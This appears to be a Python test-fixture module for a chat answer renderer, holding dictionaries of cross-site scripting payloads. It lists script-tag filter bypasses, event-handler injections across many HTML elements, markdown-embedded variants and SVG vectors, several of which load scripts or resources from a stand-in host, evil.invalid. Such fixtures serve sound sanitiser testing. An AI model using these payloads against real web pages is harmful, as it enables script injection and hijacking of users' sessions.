"""Scripts, event handlers and SVG, as raw HTML in an answer."""

RUN = "window.pwned=1"
AT = "https://evil.invalid"

SCRIPTS = {
    "plain": f"<script>{RUN}</script>",
    "from elsewhere": f'<script src="{AT}/x.js"></script>',
    "from elsewhere without scheme": "<script src=//evil.invalid/x.js></script>",
    "of this site": "<script src=/static/x.js></script>",
    "module": f'<script type=module>import "{AT}/m.js"; {RUN}</script>',
    "import map": f'<script type=importmap>{{"imports":{{"app/ui":"{AT}/ui.js"}}}}</script>',
    "speculation rules": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{AT}/p"]}}]}}</script>',
    "data address": f"<script src='data:text/javascript,{RUN}'></script>",
    "upper case": f"<SCRIPT>{RUN}</SCRIPT>",
    "slash for a space": f'<SCRIPT/XSS SRC="{AT}/x.js"></SCRIPT>',
    "never closed": f"<script>{RUN}",
    "never closed tag": f'<script src="{AT}/x.js"',
    "in itself": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "extra bracket": f"<<script>{RUN};//<</script>",
    "null in its name": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "line in its name": f"<scr\nipt>{RUN}</scr\nipt>",
    "nonce that is guessed": f'<script nonce="">{RUN}</script>',
    "json": '<script type="application/json" id=chat-state>{"csrf_token":"x"}</script>',
    "for the old": f"<script for=window event=onload>{RUN}</script>",
    "xml": f'<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">{RUN}</html:script>',
    "comment end": f"--><script>{RUN}</script><!--",
    "title end": f"</title><script>{RUN}</script>",
    "textarea end": f"</textarea><script>{RUN}</script>",
    "code end": f"`</code></pre><script>{RUN}</script>`",
    "paragraph end": f"</p></div></article><script>{RUN}</script>",
    "in a heading": f"# <script>{RUN}</script>",
    "in a cell": f"| a |\n|---|\n| <script>{RUN}</script> |",
    "in a quotation": f"> <script>\n> {RUN}\n> </script>",
    "in an item": f"- <script>\n  {RUN}\n  </script>",
    "in a link's words": f"[<script>{RUN}</script>](https://example.com)",
    "in a title": f'[a](https://example.com "<script>{RUN}</script>")',
}

_EVENTS = {
    "img src=x": ["error", "load", "loadstart"],
    "body": ["load", "pageshow", "hashchange", "beforeunload", "message", "popstate", "resize", "scroll"],
    "svg": ["load", "begin", "end", "repeat"],
    "details open": ["toggle", "beforetoggle"],
    "input autofocus": ["focus", "focusin", "blur", "input", "change", "select", "invalid"],
    "video src=x": ["error", "loadeddata", "canplay", "play"],
    "div style='animation:x 1s'": ["animationstart", "animationend", "animationiteration", "transitionend"],
    "marquee": ["start", "bounce", "finish"],
    "p contenteditable": ["click", "mouseover", "pointerenter", "pointerdown", "wheel", "copy", "paste", "beforecopy"],
    "p draggable=true": ["drag", "dragstart", "drop"],
    "a href=#x": ["click", "auxclick", "contextmenu", "keydown", "touchstart", "gotpointercapture"],
    "dialog open": ["close", "cancel"],
    "slot": ["slotchange", "securitypolicyviolation", "contentvisibilityautostatechange"],
}
HANDLERS = {
    f"on{event} of {tag.split()[0]}": f"<{tag} on{event}={RUN}>x</{tag.split()[0]}>"
    for tag, events in _EVENTS.items()
    for event in events
} | {
    "capitals": f"<img src=x oNeRRoR={RUN}>",
    "no space before it": f'<img/src="x"/onerror={RUN}>',
    "quotation marks of the back": f"<img src=`x` onerror=`{RUN}`>",
    "line feeds": f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    "form feed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "entity in its value": "<img src=x onerror=window&#46;pwned&#61;1>",
    "name after a quote": f'<img alt="x"onerror={RUN} src=x>',
    "custom element": f"<x-y onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</x-y>",
    "link that holds one": f'[x](https://example.com/"onmouseover={RUN}//)',
    "title that holds one": f"[x](https://example.com '\" onmouseover=\"{RUN}')",
    "reference that holds one": f'[x]\n\n[x]: <https://example.com/" onclick="{RUN}> \'" onclick="{RUN}\'',
    "bare address that holds one": f'https://example.com/"onmouseover="{RUN}',
}

_OF_SVG = {
    "script": f"<script>{RUN}</script>",
    "script by href": f'<script href="{AT}/x.js"/>',
    "script by xlink": f'<script xlink:href="data:text/javascript,{RUN}"/>',
    "foreign object": "<foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'/></foreignObject>",
    "foreign object with a body": f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload={RUN}/></foreignObject>",
    "use of data": '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJ3aW5kb3cucHduZWQ9MSIvPg==#x"/>',
    "use from elsewhere": f'<use xlink:href="{AT}/x.svg#x"/>',
    "image from elsewhere": f'<image href="{AT}/x.png" width="9" height="9"/>',
    "feImage from elsewhere": f'<filter id="f"><feImage href="{AT}/x.png"/></filter><rect filter="url(#f)"/>',
    "animate that begins": f"<animate onbegin={RUN} attributeName=x dur=1s/>",
    "animate to a script": f'<a><animate attributeName=href values="javascript:{RUN}"/><text y=9>x</text></a>',
    "set to a script": f'<a id=x><text>x</text></a><set href=#x attributeName=href to="javascript:{RUN}"/>',
    "animate a handler": f'<rect id=r /><animate href=#r attributeName=onclick to="{RUN}"/>',
    "link to a script": f'<a xlink:href="javascript:{RUN}"><text y=9>x</text></a>',
    "style": f"<style>@import '{AT}/x.css'; *{{fill:url({AT}/f.svg#x)}}</style>",
    "style with a handler": f"<style><img src=x onerror={RUN}></style>",
    "fill from elsewhere": f'<rect fill="url({AT}/p.svg#x)"/>',
    "cursor from elsewhere": f'<rect style="cursor:url({AT}/c.cur),auto"/>',
    "mask from elsewhere": f'<rect mask="url({AT}/m.svg#x)"/>',
    "font from elsewhere": f"<defs><font-face><font-face-src><font-face-uri xlink:href='{AT}/f.svg#x'/></font-face-src></font-face></defs>",
    "description": f"<desc><script>{RUN}</script></desc>",
    "title": f"<title><img src=x onerror={RUN}></title>",
    "handler element": f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler>',
    "discard": f"<discard onbegin={RUN} begin=0s/>",
    "text path": f'<text><textPath href="{AT}/x.svg#p">x</textPath></text>',
    "metadata": f"<metadata><iframe xmlns='http://www.w3.org/1999/xhtml' src='{AT}'/></metadata>",
}
SVG = {name: f'<svg xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>' for name, inside in _OF_SVG.items()}
